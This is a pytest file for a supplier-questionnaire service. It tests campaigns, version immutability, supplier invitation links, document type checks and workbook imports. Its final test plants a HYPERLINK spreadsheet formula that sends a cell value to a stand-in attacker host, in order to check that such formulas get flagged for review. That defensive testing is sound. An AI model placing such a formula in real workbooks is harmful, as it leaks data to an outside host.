"""Questionnaire services: versions, invitations, documents and their error paths."""

from datetime import date, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from django.utils import timezone

from chainproof.accounts.roles import Role
from chainproof.audit.models import AuditEvent
from chainproof.domain.questionnaire.definition import parse_definition
from chainproof.questionnaires.answering import NotComplete, document_upload, draft_save, web_submit
from chainproof.questionnaires.campaigns import campaign_create
from chainproof.questionnaires.contacts import InvitationInvalid, _token_hash, invitation_open
from chainproof.questionnaires.models import Attachment, QuestionnaireRequest, QuestionnaireVersion
from chainproof.questionnaires.versions import definition, versions_sync
from chainproof.suppliers.models import Supplier
from tests.supply import load_demo


@pytest.fixture
def request_(alice, refdata):
    load_demo(alice.organization)
    supplier = Supplier.objects.get(organization=alice.organization, ref="S-VN-01")
    supplier.contact_email = "Lan@Lotus.example"
    supplier.save()
    with transaction.atomic():
        campaign = campaign_create(
            organization_id=alice.organization.pk,
            actor=alice.user,
            name="Q4",
            questionnaire=versions_sync()[0],
            due_date=date.today() + timedelta(days=10),
            supplier_ids=[supplier.pk],
        )
    qr = QuestionnaireRequest.objects.get(campaign=campaign)
    qr.status = "sent"
    qr.save()
    return qr


def _with_token(qr, token="invitation-link-token", expires=None):  # noqa: S107
    qr.token_hash = _token_hash(token)
    qr.token_expires_at = expires or timezone.now() + timedelta(days=1)
    qr.save()
    return token


def test_campaign_inputs_are_checked(alice, refdata):
    version = versions_sync()[0]
    for kwargs, message in (
        ({"name": " "}, "needs a name"),
        ({"due_date": date.today()}, "after today"),
        ({"supplier_ids": []}, "at least one supplier"),
        ({"reminder_days": 0}, "1 to 90 days"),
    ):
        arguments = {
            "organization_id": alice.organization.pk,
            "actor": alice.user,
            "name": "Q",
            "questionnaire": version,
            "due_date": date.today() + timedelta(days=5),
            "supplier_ids": [1],
            **kwargs,
        }
        with pytest.raises(ValidationError, match=message), transaction.atomic():
            campaign_create(**arguments)


def test_a_shipped_version_never_changes(alice, refdata):
    version = versions_sync()[0]
    QuestionnaireVersion.objects.filter(pk=version.pk).update(sha256="0" * 64)
    with pytest.raises(RuntimeError, match="publish changes as a new version"):
        versions_sync()


def test_an_older_version_keeps_reading_after_a_new_one(request_):
    old = request_.campaign.questionnaire
    document = {**old.document, "version": "2.0"}
    document["sections"] = [
        *old.document["sections"][:1],
        {
            "id": "extra",
            "title": "Extra",
            "questions": [{"id": "new_q", "text": "New?", "type": "yes_no"}],
        },
    ]
    parse_definition(document)  # a valid new version
    QuestionnaireVersion.objects.create(
        key="chainproof-strt@2.0",
        questionnaire_id="chainproof-strt",
        version="2.0",
        title=old.title,
        document=document,
        layout={"name": "x", "questionnaire": "chainproof-strt", "version": "2.0"},
        sha256="1" * 64,
    )
    with transaction.atomic():
        draft_save(qr=request_, actor=None, answers={"policy_dprk": "yes"})
    questionnaire, _ = definition(request_.campaign.questionnaire)
    assert questionnaire.version == "1.0"
    assert "policy_dprk" in questionnaire.questions
    assert request_.answers["policy_dprk"] == "yes"


def test_the_invitation_link_signs_in_the_same_supplier_contact_until_it_expires(request_):
    token = _with_token(request_)
    user, qr = invitation_open(token)
    assert user.username == "lan@lotus.example"
    assert not user.has_usable_password()
    membership = user.memberships.get()
    assert (membership.role, membership.supplier_id) == (Role.SUPPLIER, qr.supplier_id)
    assert qr.status == "opened"
    again, _ = invitation_open(token)
    assert again.pk == user.pk
    assert AuditEvent.objects.filter(action="questionnaire.invitation_opened").count() == 2


def test_an_expired_link_is_refused(request_):
    token = _with_token(request_, expires=timezone.now() - timedelta(minutes=1))
    with pytest.raises(InvitationInvalid, match="expired"):
        invitation_open(token)


def test_a_link_cannot_sign_in_as_an_internal_member(request_, alice):
    alice.user.username = "alice@acme.example"
    alice.user.save()
    request_.contact_email = "Alice@Acme.example"
    request_.save()
    user, qr = invitation_open(_with_token(request_))
    assert user.pk != alice.user.pk
    assert user.username != alice.user.username
    assert [(m.role, m.supplier_id) for m in user.memberships.all()] == [
        (Role.SUPPLIER, qr.supplier_id)
    ]
    assert alice.user.memberships.get().role == Role.ADMIN


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("policy.exe", b"MZ\x90\x00", "expected one of"),
        ("policy.pdf", b"<html>not a pdf</html>", "the name says a PDF, but the content is a text"),
        ("notes.txt", b"\x00\x01binary", "binary content"),
        ("empty.pdf", b"", "Expected 1 to"),
    ],
)
def test_documents_are_checked_for_type_and_size(request_, name, data, message):
    with pytest.raises(ValidationError, match=message), transaction.atomic():
        document_upload(
            qr=request_, actor=None, question="policy_document", data=data, file_name=name
        )
    assert not Attachment.objects.exists()


def test_a_document_only_for_a_document_question(request_):
    with pytest.raises(ValidationError, match="does not ask for a document"), transaction.atomic():
        document_upload(
            qr=request_, actor=None, question="policy_dprk", data=b"%PDF-1", file_name="a.pdf"
        )


def test_a_draft_keeps_wrong_answers_and_submission_waits(request_):
    with transaction.atomic():
        checked = draft_save(qr=request_, actor=None, answers={"signed_on": "next week"})
    assert [i.question for i in checked.issues] == ["signed_on"]
    request_.refresh_from_db()
    assert request_.answers["signed_on"] == "next week"  # kept as typed, nothing lost
    assert request_.answers["company_name"] == request_.supplier.legal_name  # prefilled
    with pytest.raises(NotComplete) as caught, transaction.atomic():
        web_submit(qr=request_, actor=None)
    assert "signed_on: expected a date (YYYY-MM-DD), found 'next week'" in caught.value.messages
    request_.refresh_from_db()
    assert request_.status == "in_progress"


def _compact_workbook(**overrides):
    import io

    from openpyxl import Workbook

    cells = {
        "B3": "Lotus Garment Co., Ltd.",
        "B4": "VN",
        "B5": "12 Nguyen Trai, Hanoi",
        "B6": "My whole company",
        "B7": "Nguyen Thi Lan",
        "B8": "Chief Executive",
        "B9": "lan@lotus.example",
        "B10": "2026-11-02",
        "B11": "Yes",
        "B13": "Yes",
        "B14": "Yes",
        "B15": "No",
        "B16": "No",
        "B17": "Directly to each worker (bank account or cash against signature)",
        "B18": "No",
        "B19": "No",
        "B20": "Yes",
        "A24": "Lotus Factory 1",
        "B24": "Phu Nghia Industrial Park, Hanoi",
        "C24": "VN",
        "D24": "Shirts",
        "E24": 820,
        "F24": 40,
        "G24": "None",
        **overrides,
    }
    book = Workbook()
    sheet = book.active
    sheet.title = "Supplier survey"
    for ref, value in cells.items():
        sheet[ref] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_another_layout_registered_as_a_map_is_read_into_the_draft(request_):
    from chainproof.questionnaires.answering import workbook_submit

    assert [d["name"] for d in request_.campaign.questionnaire.layouts] == [
        "compact one-sheet survey"
    ]
    with transaction.atomic():
        outcome = workbook_submit(
            qr=request_, actor=None, data=_compact_workbook(), file_name="survey.xlsx"
        )
    assert outcome.submission is None
    assert outcome.layout == "compact one-sheet survey"
    request_.refresh_from_db()
    assert request_.status == "in_progress"
    assert request_.answers["wages_paid_to"] == "worker"
    assert request_.answers["worksites"][0]["total_workers"] == 820
    assert "recruitment_agencies" in request_.missing  # not asked by this layout
    assert Attachment.objects.get(request=request_, kind="workbook").file_name == "survey.xlsx"
    assert AuditEvent.objects.filter(action="questionnaire.workbook_imported").exists()


@pytest.mark.parametrize("own", [True, False], ids=["chainproof workbook", "another layout"])
def test_an_uploaded_workbook_is_unzipped_and_checked_once(request_, monkeypatch, own):
    import zipfile

    from chainproof.fileformats import xlsx
    from chainproof.questionnaires.answering import workbook_for, workbook_submit
    from tests.questionnaire_helpers import TYPED, fill

    if own:
        _, layout = definition(request_.campaign.questionnaire)
        data = fill(workbook_for(request_), layout, TYPED)
    else:
        data = _compact_workbook()
    opened = []
    real = zipfile.ZipFile

    def counting(*args, **kwargs):
        opened.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(xlsx.zipfile, "ZipFile", counting)
    with transaction.atomic():
        outcome = workbook_submit(qr=request_, actor=None, data=data, file_name="back.xlsx")
    assert outcome.layout == ("chainproof 1.0" if own else "compact one-sheet survey")
    assert (outcome.submission is not None) is own
    assert opened == [1]


def test_a_wrong_answer_in_another_layout_names_its_cell_and_stores_nothing(request_):
    from chainproof.questionnaires.answering import WorkbookProblems, workbook_submit

    with pytest.raises(WorkbookProblems) as caught, transaction.atomic():
        workbook_submit(
            qr=request_, actor=None, data=_compact_workbook(B10="soon"), file_name="survey.xlsx"
        )
    assert caught.value.messages == [
        "survey.xlsx Supplier survey!B10: expected a date (YYYY-MM-DD), found 'soon'"
    ]
    assert not Attachment.objects.exists()
    request_.refresh_from_db()
    assert request_.status == "sent"


def test_an_unknown_layout_is_refused_with_the_ones_known(request_):
    import io

    from openpyxl import Workbook

    from chainproof.questionnaires.answering import WorkbookProblems, workbook_submit

    book = Workbook()
    book.active.title = "Sheet1"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(WorkbookProblems) as caught, transaction.atomic():
        workbook_submit(qr=request_, actor=None, data=out.getvalue(), file_name="x.xlsx")
    message = caught.value.messages[0]
    assert "compact one-sheet survey (sheets Supplier survey)" in message
    assert "found the sheets Sheet1" in message


def test_accepted_answers_are_risk_factors_with_their_source(request_, alice):
    from chainproof.domain.questionnaire.answers import check
    from chainproof.questionnaires.models import Submission
    from chainproof.questionnaires.review import request_accept
    from chainproof.risk.selectors import current_for
    from chainproof.risk.services import risk_score_all
    from tests.questionnaire_helpers import TYPED, countries

    questionnaire, _ = definition(request_.campaign.questionnaire)
    typed = {**TYPED, "documents_held": "Yes", "dprk_own_operations": "Yes"}
    typed["dprk_details"] = "Twelve welders from Sinuiju, hired through a broker"
    values = check(questionnaire, typed, countries=countries()).values
    request_.answers, request_.status = values, "submitted"
    request_.save()
    Submission.objects.create(
        request=request_,
        questionnaire=request_.campaign.questionnaire,
        answers=values,
        source="web",
    )
    risk_score_all(organization_id=alice.organization.pk)
    supplier_id = request_.supplier_id
    before = {
        r["factor"] for r in current_for(alice.organization.pk, "supplier", supplier_id).reasons
    }
    assert "signal:identity_documents_retained" not in before  # submitted is not accepted
    with transaction.atomic():
        request_accept(qr=request_, actor=alice.user)
    risk_score_all(organization_id=alice.organization.pk)
    reasons = current_for(alice.organization.pk, "supplier", supplier_id).reasons
    found = {r["factor"]: r for r in reasons}
    assert "signal:identity_documents_retained" in found
    assert "signal:worker_paid_recruitment_fees" in found
    assert "questionnaire Q4" in found["signal:identity_documents_retained"]["source"]
    # Methodology 2: North Korean nationals in the supplier's own operations count.
    assert found["signal:dprk_nationals_reported"]["points"] == 100


def test_formulas_outside_the_answers_are_flagged_for_the_reviewer_never_run(request_):
    import io

    from openpyxl import load_workbook

    from chainproof.questionnaires.answering import workbook_for, workbook_submit
    from chainproof.questionnaires.models import Submission
    from tests.questionnaire_helpers import TYPED, fill

    _, layout = definition(request_.campaign.questionnaire)
    clean = fill(workbook_for(request_), layout, TYPED)
    with transaction.atomic():
        outcome = workbook_submit(qr=request_, actor=None, data=clean, file_name="clean.xlsx")
    assert outcome.warnings == []  # the Checker sheet's own formulas are not the supplier's
    book = load_workbook(io.BytesIO(clean))
    book["Declaration"]["Z40"] = '=HYPERLINK("http://evil.example/?leak="&C5,"Open")'
    out = io.BytesIO()
    book.save(out)
    request_.status = "sent"
    request_.save()
    with transaction.atomic():
        outcome = workbook_submit(qr=request_, actor=None, data=out.getvalue(), file_name="f.xlsx")
    assert len(outcome.warnings) == 1
    assert "Declaration!Z40" in outcome.warnings[0]
    latest = Submission.objects.filter(request=request_).order_by("-pk").first()
    assert latest.warnings == outcome.warnings
